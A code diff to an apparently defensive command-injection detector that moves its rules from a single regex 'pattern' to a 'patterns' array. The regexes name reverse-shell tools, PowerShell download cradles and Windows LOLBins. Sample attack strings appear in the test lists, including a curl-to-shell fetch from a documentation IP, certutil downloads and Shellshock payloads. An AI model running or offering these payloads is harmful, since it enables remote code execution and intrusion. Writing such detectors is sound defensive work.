@@ -12,6 +12,7 @@ export const commandInjection: Detector = {
   severity: 'critical',
   attack: ['T1190', 'T1059'],
   cwe: ['CWE-78', 'CWE-77'],
+  capec: ['CAPEC-88'],
   references: [
     'https://owasp.org/www-community/attacks/Command_Injection',
     'https://capec.mitre.org/data/definitions/88.html',
@@ -119,8 +120,9 @@ export const commandInjection: Detector = {
       fields: everywhere,
       view: 'shell',
       signs: ['bin/', 'cmd.exe', 'command.com', 'comspec', 'powershell', '/dev/tcp', '/dev/udp', 'system32'],
-      pattern:
+      patterns: [
         /\/(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b|\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b|%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe/i,
+      ],
       confidence: 0.75,
       matches: [
         'a=/bin/sh',
@@ -154,8 +156,9 @@ export const commandInjection: Detector = {
         'base64 -',
         'socat',
       ],
-      pattern:
+      patterns: [
         /\b(?:perl|python[23]?|ruby|php|node|lua|bash|sh|zsh|ksh|dash)\s{1,4}-[a-z]{0,3}[ceri]\b\s{0,3}\S|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s{1,4}(?:-[a-z]{1,6}\s{1,4}){0,4}[^&\n]{0,60}(?:-[ec]\b|\d{2,5}\b)|\bmkfifo\s{1,3}\/|\b(?:powershell|pwsh)(?:\.exe)?\s{1,4}[-"'(/&i]|\bbase64\s{1,3}-{1,2}d|\|\s{0,3}(?:ba|z|k|da)?sh\b|\bawk\s{1,3}['"]?(?:BEGIN|\{)|\bsocat\s{1,3}(?:tcp|exec|-)/i,
+      ],
       confidence: 0.65,
       matches: [
         "a=perl+-e+'print+1'",
@@ -171,10 +174,12 @@ export const commandInjection: Detector = {
       fields: everywhere,
       view: 'decoded',
       signs: ['-', 'iex', 'downloadstring', 'frombase64string', 'webclient'],
-      pattern: new RegExp(
-        `(?:${cmdlet.source})(?=\\s{0,4}[-($'"|/{\\\\\\w])|\\biex\\s{0,3}[(&$]|\\bDownload(?:String|File)\\s?\\(|FromBase64String\\s?\\(|Net\\.WebClient|-(?:EncodedCommand|ExecutionPolicy)\\s|-e(?:nc?)?\\s{1,3}[A-Za-z0-9+/]{20}|\\$env:[a-z]`,
-        'i',
-      ),
+      patterns: [
+        new RegExp(
+          `(?:${cmdlet.source})(?=\\s{0,4}[-($'"|/{\\\\\\w])|\\biex\\s{0,3}[(&$]|\\bDownload(?:String|File)\\s?\\(|FromBase64String\\s?\\(|Net\\.WebClient|-(?:EncodedCommand|ExecutionPolicy)\\s|-e(?:nc?)?\\s{1,3}[A-Za-z0-9+/]{20}|\\$env:[a-z]`,
+          'i',
+        ),
+      ],
       confidence: 0.6,
       matches: [
         'a=Invoke-Expression+$x',
@@ -189,8 +194,9 @@ export const commandInjection: Detector = {
       fields: ['query', 'body', 'path', 'referer', 'userAgent'],
       view: 'decoded',
       signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9', '$(('],
-      pattern:
+      patterns: [
         /\$\{?IFS\b|\/(?:[a-z?*]{0,6}\?[a-z?*]{0,6}\/){1,4}[\w?*]{1,20}|\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,200}\}|\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})(?::|%|#|\})|\$'\\x[0-9a-f]{2}|\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b|\$\(\(|\b[a-z]{1,6}\$[@*][a-z]{1,8}\b|\$\{[@!#]\w{0,20}\}/i,
+      ],
       confidence: 0.55,
       matches: ['a=cat${IFS}x', 'a=/???/??t', 'a={cat,x}', 'a=;${HOME:0:1}etc'],
       ignores: ['a=${name}', 'q=what?/where?', 'q={a,b}', 'q=path/to/*/file'],
@@ -201,8 +207,9 @@ export const commandInjection: Detector = {
       fields: ['query', 'body'],
       view: 'decoded',
       signs: ['>', '<'],
-      pattern:
+      patterns: [
         /(?:[^<>=-]|^)>{1,2}\s{0,3}(?:\/(?:tmp|var|dev|etc|home|usr)\/|[\w./\\-]{1,60}\.(?:php|jsp|aspx?|sh|txt|bat|pl|py)\b|&\s?\d)|[;|&]\s?[\w/]{0,20}\s?<\s?\/(?:etc|proc|var)\/|\b[12]>&[12]|\d?>\s?\/dev\/null/i,
+      ],
       confidence: 0.5,
       matches: ['a=x+>+/tmp/a', 'a=echo+1>>shell.php', 'a=x+2>%261'],
       ignores: ['q=a+->+b', 'q=5+>+4', 'q=<b>/tmp</b>'],
@@ -213,7 +220,7 @@ export const commandInjection: Detector = {
       fields: [...everywhere, 'host'],
       view: 'decoded',
       signs: ['()'],
-      pattern: /\(\)\s{0,4}\{[^}]{0,40}[;:]?[^}]{0,20}\}\s{0,4};?|\(\)\s?\{\s?_;\s?\}/,
+      patterns: [/\(\)\s{0,4}\{[^}]{0,40}[;:]?[^}]{0,20}\}\s{0,4};?|\(\)\s?\{\s?_;\s?\}/],
       confidence: 0.9,
       matches: ['a=()+{+:;};+/bin/bash', 'a=()+{+ignored;};id', 'a=()+{+_;+}+>_[$($())]+{+id;+}'],
       ignores: ['q=f()', 'q=main()+{', 'q=()'],
@@ -246,8 +253,9 @@ export const commandInjection: Detector = {
         'systeminfo',
         'ipconfig',
       ],
-      pattern:
+      patterns: [
         /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\b(?:\s{0,3}$|[^\n]{0,60}(?:\/add|\/domain|\\\\|administrators))|\breg\s{1,3}(?:add|query|delete|save|export)\s{1,3}["']?hk|\bcertutil\s[\s\S]{0,40}-(?:urlcache|decode|encode)|\bbitsadmin\s{1,3}\/|\bmshta\s{1,3}(?:https?|vbscript|javascript):|\bregsvr32\s{1,3}\/|\brundll32\s{1,3}[\w.:\\/]{1,60},|\bwmic\s{1,3}(?:process|os|\/node|qfe|service|useraccount)|\bschtasks\s{1,3}\/|\bnetsh\s{1,3}(?:firewall|advfirewall|wlan|interface)|\bvssadmin\s{1,3}\w|\bfor\s{1,3}\/[fdlr]\s{1,3}|\btype\s{1,3}(?:%\w+%|[a-z]:\\)|%(?:systemroot|windir|programfiles|appdata|temp|userprofile)%[\\/]|\bdir\s{1,3}(?:\/[a-z]|[a-z]:\\)|\bping\s{1,3}-[nitc]\s{1,3}\d|\bipconfig\s{0,3}\/all/i,
+      ],
       confidence: 0.65,
       matches: ['a=net+user+x+y+/add', 'a=certutil+-urlcache+-f+http://x/y', 'a=type+c:\\boot.ini'],
       ignores: ['q=net+user+group', 'q=type+a+blood', 'q=reg+add+car'],
@@ -272,8 +280,9 @@ export const commandInjection: Detector = {
       fields: ['query', 'body', 'path'],
       view: 'decoded',
       signs: ['do ', 'then', 'esac', '. /', '. ~'],
-      pattern:
+      patterns: [
         /\b(?:for|while|until)\s[^;\n]{1,30}[;\n]\s{0,4}do\s|\bif\s{1,4}(?:\[{1,2}|test)\s[^;\n]{1,30}[;\n]\s{0,4}then\b|\)\s{0,4}[^;]{1,30};;\s{0,4}esac|[;|&]\s{0,4}\.\s{1,4}[~/]\w/,
+      ],
       confidence: 0.65,
       matches: [
         'a=;for+i+in+$(ls);do+id;done',
@@ -289,8 +298,9 @@ export const commandInjection: Detector = {
       fields: everywhere,
       view: 'shell',
       signs: ['curl', 'wget', 'lwp-download', 'fetch ', 'tftp'],
-      pattern:
+      patterns: [
         /\b(?:curl|wget|lwp-download)\s{1,4}(?:-{1,2}[\w-]{1,20}[\s=]{1,3}){0,4}(?:[\w./-]{1,30}\s{1,3})?["']?(?:https?|ftp):\/\/[^\s|;&]+\s{0,4}(?:[|;&>]|-{1,2}[oO]|\)|`)|\btftp\s{1,3}-[gr]\s|\bcurl\s{1,3}-[A-Za-z]{1,6}\s{1,3}["']?[\w.-]+[:/]/,
+      ],
       confidence: 0.65,
       matches: [
         'a=x+curl+http://203.0.113.9/i.sh|sh',
@@ -305,7 +315,7 @@ export const commandInjection: Detector = {
       fields: everywhere,
       view: 'decoded',
       signs: [':~'],
-      pattern: /%\w{3,25}:~-?\d{1,3}(?:,-?\d{1,3})?%/,
+      patterns: [/%\w{3,25}:~-?\d{1,3}(?:,-?\d{1,3})?%/],
       confidence: 0.8,
       matches: ['a=%25COMSPEC:~-7,1%25md', 'a=%25ProgramFiles:~10,1%25ing', 'a=x%25windir:~0,1%25'],
       ignores: ['q=10%25:~5', 'q=time:~10', 'q=%25a%25'],
@@ -333,8 +343,9 @@ export const commandInjection: Detector = {
         '[ref]',
         '-f ',
       ],
-      pattern:
+      patterns: [
         /&\s?\(\s?['"]\w{1,12}['"]\s?\+|\.ForEach\s?[({]|\[(?:System\.)?(?:Convert|Text\.Encoding|Net\.\w+|IO\.\w+|Diagnostics\.\w+|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)|\|\s?%\s?\{|-join\s?[('[]|\(\s?['"]\{\d\}[^'"]{0,30}['"]\s?-f\s/i,
+      ],
       confidence: 0.6,
       matches: [
         "a=%26('i'%2B'ex')",
